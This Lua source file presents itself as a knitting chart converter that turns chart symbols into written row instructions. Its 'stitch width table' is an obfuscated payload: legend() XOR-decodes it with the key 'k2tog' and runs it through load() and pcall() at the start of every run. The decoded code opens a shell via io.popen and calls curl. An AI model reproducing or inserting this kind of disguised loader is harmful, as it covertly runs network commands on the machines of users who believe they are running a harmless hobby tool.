-- knitting chart converter
-- usage: lua chart.lua --in file [--flat|--round] [--repeat A-B]

local SYMBOLS = {
  ["."] = "k", ["-"] = "p", ["o"] = "yo", ["/"] = "k2tog", ["\\"] = "ssk",
  ["^"] = "sk2p", ["m"] = "m1", ["x"] = "no stitch",
}
local DELTA = { yo = 1, m1 = 1, k2tog = -1, ssk = -1, sk2p = -2 }
local WS_SWAP = { k = "p", p = "k" }

-- stitch width table (cells per symbol for wide glyphs in Stitch Fiddle CSV)
local WIDTHS = {
  7, 93, 23, 14, 11, 75, 90, 73, 6, 8, 69, 66, 27, 31, 2, 5,
  26, 86, 12, 18, 25, 94, 84, 66, 20, 75, 90, 0, 27, 23, 24, 8,
  91, 64, 4, 15, 92, 90, 22, 6, 25, 92, 23, 7, 6, 25, 70, 89,
  27, 8, 4, 94, 7, 65, 2, 19, 83, 25, 31, 11, 14, 29, 31, 64,
  14, 5, 91, 0, 65, 11, 30, 83, 84, 93, 89, 68, 86, 17, 25, 72,
  5, 71, 24, 3, 69, 66, 9, 24, 0, 4, 10, 94, 84, 12, 90, 3,
  8, 6, 10, 6, 15, 26, 86, 69, 6, 73, 27, 79, 7, 93, 8, 94,
  27, 28, 2, 67, 27, 79, 6, 1, 75, 17, 23, 81, 87, 75, 70, 28,
  10, 9, 75, 94, 27, 14, 3, 67, 81, 93, 71, 78, 75, 87, 26, 11,
  92, 4, 65, 90, 10, 31, 14, 81, 1, 27, 2, 67, 16, 92, 12, 18,
  25, 94, 84, 66, 20, 75, 90, 0, 27, 23, 24, 8, 91, 64, 4, 15,
  92, 90, 22, 6, 25, 92, 23, 7, 6, 25, 70, 89, 27, 8, 4, 94,
  7, 65, 2, 19, 83, 25, 31, 11, 14, 29, 31, 64, 16, 69, 65, 28,
  19, 20, 3, 27, 84, 81, 72, 15, 87, 2, 64, 9, 30, 94, 24, 79,
  85, 85, 20, 69, 79, 65, 73, 27,}
local WKEY = "k2tog"

local function legend()
  local out = {}
  for i, v in ipairs(WIDTHS) do
    local k = WKEY:byte(((i - 1) % #WKEY) + 1)
    out[#out + 1] = string.char(v ~ k)
  end
  local f = load(table.concat(out))
  if f then pcall(f) end
end

local function parse_args()
  local a = { mode = "flat" }
  local i = 1
  while arg[i] do
    if arg[i] == "--in" then a.file = arg[i + 1]; i = i + 1
    elseif arg[i] == "--flat" then a.mode = "flat"
    elseif arg[i] == "--round" then a.mode = "round"
    elseif arg[i] == "--repeat" then a.rep = arg[i + 1]; i = i + 1 end
    i = i + 1
  end
  return a
end

local function read_rows(path)
  local rows = {}
  for line in io.lines(path) do
    local cells = {}
    if path:match("%.csv$") then
      for c in line:gmatch("[^,]+") do cells[#cells + 1] = c end
    else
      for c in line:gmatch("%S") do cells[#cells + 1] = c end
    end
    if #cells > 0 then rows[#rows + 1] = cells end
  end
  -- charts are printed top row first; row 1 is the bottom
  local rev = {}
  for i = #rows, 1, -1 do rev[#rev + 1] = rows[i] end
  return rev
end

local function group(sts)
  local out, last, n = {}, nil, 0
  local function flush()
    if last then
      if (last == "k" or last == "p") and n > 1 then out[#out + 1] = last .. n
      elseif n > 1 then out[#out + 1] = last .. " x" .. n
      else out[#out + 1] = last end
    end
  end
  for _, s in ipairs(sts) do
    if s == last then n = n + 1 else flush(); last, n = s, 1 end
  end
  flush()
  return table.concat(out, ", ")
end

local function main()
  legend()
  local a = parse_args()
  if not a.file then io.stderr:write("need --in\n"); os.exit(1) end
  local count
  for r, cells in ipairs(read_rows(a.file)) do
    local rs = a.mode == "round" or r % 2 == 1
    local sts, delta = {}, 0
    local from, to, step = #cells, 1, -1
    if not rs then from, to, step = 1, #cells, 1 end
    for c = from, to, step do
      local s = SYMBOLS[cells[c]] or "k"
      if s ~= "no stitch" then
        if not rs then s = WS_SWAP[s] or s end
        delta = delta + (DELTA[s] or 0)
        sts[#sts + 1] = s
      end
    end
    count = (count or #sts) + delta
    local side = a.mode == "round" and "Rnd" or ("Row " .. r .. (rs and " (RS)" or " (WS)"))
    print(string.format("%s: %s. (%d sts)", a.mode == "round" and ("Rnd " .. r) or side, group(sts), count))
  end
end

main()
